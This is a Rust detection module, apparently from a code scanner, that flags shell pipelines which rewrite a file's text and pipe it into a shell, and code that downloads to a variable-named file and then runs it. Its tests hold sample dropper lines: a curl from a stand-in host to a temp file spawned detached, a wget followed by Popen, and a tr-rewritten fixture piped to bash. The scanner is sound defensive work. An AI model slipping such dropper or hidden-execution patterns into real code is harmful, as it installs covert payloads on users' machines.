//! Commands handed on to be run where no line shows them whole, found by
//! their shape across a pipeline or a script's lines:
//! - a file's text rewritten (`tr`, `rev`, `xxd -r`) and piped into a shell;
//! - a download saved to a file a script names by a variable, then a
//!   process started with that variable.

use std::sync::LazyLock;

use regex::Regex;

/// Pipelines that read a file, rewrite its characters and hand the result
/// to a shell (`sed -n 3p fixture.txt | tr '\t_' ' -' | sh`, `cat x | rev |
/// bash`): the text run is not the text a reader of the file sees, so the
/// command is hidden in it. (line, the pipeline) for each, at most eight.
pub(super) fn rewritten_into_shell(shell: &str) -> Vec<(usize, String)> {
    const READERS: &[&str] = &["cat", "sed", "head", "tail", "awk", "grep", "cut", "<"];
    const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "$SHELL", "${SHELL}"];
    let mut out = Vec::new();
    for (i, line) in shell.split('\n').enumerate() {
        if !line.contains('|') || !(line.contains("tr ") || line.contains("rev") || line.contains("xxd")) {
            continue;
        }
        let Some(pipeline) = line
            .split("||")
            .flat_map(|p| p.split("&&"))
            .flat_map(|p| p.split(';'))
            .find(|p| p.matches('|').count() >= 2)
        else {
            continue;
        };
        let stages: Vec<&str> = pipeline.split('|').map(str::trim).filter(|s| !s.is_empty()).collect();
        if stages.len() < 3 {
            continue;
        }
        let program = |stage: &str| {
            let word = stage.split_whitespace().next().unwrap_or("");
            word.rsplit('/').next().unwrap_or(word).to_owned()
        };
        let reads = READERS.contains(&program(stages[0]).as_str());
        let last = program(stages[stages.len() - 1]);
        let runs = SHELLS.contains(&last.as_str());
        let rewrites = stages[1..stages.len() - 1].iter().any(|s| {
            let p = program(s);
            (p == "tr" && s.split_whitespace().filter(|w| !w.starts_with('-')).count() >= 3)
                || p == "rev"
                || (p == "xxd" && s.contains("-r"))
        });
        if reads && runs && rewrites {
            out.push((i + 1, line.trim().to_owned()));
            if out.len() >= 8 {
                break;
            }
        }
    }
    out
}

/// A command line in a script's string that downloads to a file named by
/// a variable of the script (`` execSync(`curl -fsSL URL -o ${f}`) ``,
/// `os.system(f"wget -O {dest} URL")`), then a later line that starts a
/// process with that variable (`spawn(bun, [f])`, `subprocess.Popen([exe])`):
/// the dropper's two steps, its name built at run time. (the download's
/// line, its address, the run's line), at most four.
pub(super) fn download_to_variable_then_run(code: &str) -> Vec<(usize, String, usize)> {
    static TO_VAR: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?:curl|wget)[^\n`'"]*?(?P<url>https?://[^\s`'"]+)?[^\n`'"]*?[ \t](?:-o|--output|-O|--output-document)[ \t=]+["']?(?:\$\{(?P<js>[A-Za-z_$][\w$]*)\}|\{(?P<py>[A-Za-z_]\w*)\})"#).unwrap()
    });
    static RUN: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?:spawn|spawnSync|execFile|execFileSync|fork|Popen|call|check_call|check_output|subprocess\.run|os\.system|os\.startfile|execv|execvp)[ \t]*\(").unwrap()
    });
    let mut out = Vec::new();
    // Most code downloads nothing with a command line: no line to split.
    if !(code.contains("curl") || code.contains("wget")) {
        return out;
    }
    let lines: Vec<&str> = code.split('\n').collect();
    for (i, line) in lines.iter().enumerate() {
        let Some(c) = TO_VAR.captures(line) else { continue };
        let Some(var) = c.name("js").or(c.name("py")).map(|m| m.as_str()) else { continue };
        let url = c.name("url").map(|m| m.as_str()).or_else(|| {
            line.split(['`', '\'', '"', ' ']).find(|w| w.starts_with("https://") || w.starts_with("http://"))
        });
        let Some(url) = url else { continue };
        if crate::rules::vendor_installer_of(url).is_some() {
            continue;
        }
        let named = |l: &str| {
            l.match_indices(var).any(|(at, _)| {
                let before = l[..at].chars().next_back();
                let after = l[at + var.len()..].chars().next();
                let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$');
                !word(before) && !word(after)
            })
        };
        let run = lines.iter().enumerate().skip(i + 1).find(|(_, l)| RUN.find(l).is_some_and(|m| named(&l[m.end()..])));
        if let Some((j, _)) = run {
            out.push((i + 1, url.to_owned(), j + 1));
            if out.len() >= 4 {
                break;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_rewritten_into_a_shell_is_found() {
        let sh = "make all\nsed -n 3p tests/files/x.txt | tr \"\\t _\" \" \\t-\" | /bin/bash >/dev/null || true\ncat notes.txt | rev | sh\n";
        let found = rewritten_into_shell(sh);
        assert_eq!(found.iter().map(|f| f.0).collect::<Vec<_>>(), vec![2, 3]);
        // A file run as it is, a rewrite shown, or a deletion of characters is not.
        for t in ["cat install.sh | sh", "cat x | tr a-z A-Z | less", "cat x | tr -d '\\r' | sh"] {
            assert!(rewritten_into_shell(t).is_empty(), "{t}");
        }
    }

    #[test]
    fn a_download_to_a_variable_then_run_is_found() {
        let js = "const f = path.join(os.tmpdir(), `.x-${process.pid}.js`);\nexecSync(`curl -fsSL https://h.invalid/a.js -o ${f}`);\nspawn(bun, [f], { detached: true }).unref();\n";
        assert_eq!(download_to_variable_then_run(js), vec![(2, "https://h.invalid/a.js".to_owned(), 3)]);
        let py = "dest = tempfile.mktemp()\nos.system(f\"wget -q https://h.invalid/u -O {dest}\")\nsubprocess.Popen([dest])\n";
        assert_eq!(download_to_variable_then_run(py).len(), 1);
        // Saved and only read, or a vendor's installer run: not.
        let read = "execSync(`curl -s https://h.invalid/d.json -o ${f}`);\nconst d = JSON.parse(fs.readFileSync(f));\n";
        assert!(download_to_variable_then_run(read).is_empty());
        let vendor = "execSync(`curl -fsSL https://bun.sh/install -o ${f}`);\nspawn('bash', [f]);\n";
        assert!(download_to_variable_then_run(vendor).is_empty());
    }
}
